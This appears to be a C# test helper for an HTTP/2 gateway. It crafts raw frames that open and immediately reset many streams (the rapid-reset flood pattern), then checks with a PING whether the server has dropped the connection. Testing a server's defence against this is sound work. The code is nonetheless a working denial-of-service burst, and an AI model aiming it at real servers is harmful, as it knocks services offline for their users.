using System.Buffers.Binary;
using System.Net.Sockets;

namespace Cnaim.Gateway.Tests;

/// <summary>HTTP/2 as an attacker writes it: streams that are opened and reset at once.</summary>
internal static class Http2Burst
{
    private const byte Headers = 1;
    private const byte ResetStream = 3;
    private const byte Settings = 4;
    private const byte Ping = 6;
    private const int HeadLength = 9;

    /// <summary>Opens and resets streams, then asks whether the server is still there: true when it has closed the connection, false when it answers.</summary>
    public static async Task<bool> IsCutOffAsync(Uri server, int streams, CancellationToken cancellationToken)
    {
        using var socket = new TcpClient(server.Host, server.Port);
        await using var stream = socket.GetStream();
        var writing = WriteAsync(stream, streams, cancellationToken);
        var isCut = await IsClosedAsync(stream, cancellationToken);
        await writing;
        return isCut;
    }

    private static async Task WriteAsync(NetworkStream stream, int streams, CancellationToken cancellationToken)
    {
        using var burst = new MemoryStream();
        burst.Write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
        Frame(burst, Settings, 0, 0, []);
        for (var id = 1; id < 2 * streams; id += 2)
        {
            Frame(burst, Headers, 0x5, id, [0x82, 0x86, 0x84, 0x01, 1, (byte)'a']); // GET http://a/, all there is of it
            Frame(burst, ResetStream, 0, id, [0, 0, 0, 8]);
        }

        Frame(burst, Ping, 0, 0, new byte[8]);
        try
        {
            await stream.WriteAsync(burst.ToArray(), cancellationToken);
        }
        catch (IOException)
        {
            // Cut off, as it should be.
        }
    }

    private static async Task<bool> IsClosedAsync(NetworkStream stream, CancellationToken cancellationToken)
    {
        var head = new byte[HeadLength];
        try
        {
            do
            {
                await stream.ReadExactlyAsync(head, cancellationToken);
                await stream.ReadExactlyAsync(new byte[(head[0] << 16) | (head[1] << 8) | head[2]], cancellationToken);
            }
            while (head[3] != Ping);
            return false;
        }
        catch (IOException)
        {
            return true;
        }
    }

    private static void Frame(MemoryStream to, byte type, byte flags, int stream, ReadOnlySpan<byte> payload)
    {
        Span<byte> head = stackalloc byte[HeadLength];
        BinaryPrimitives.WriteInt32BigEndian(head, payload.Length << 8);
        head[3] = type;
        head[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(head[5..], stream);
        to.Write(head);
        to.Write(payload);
    }
}
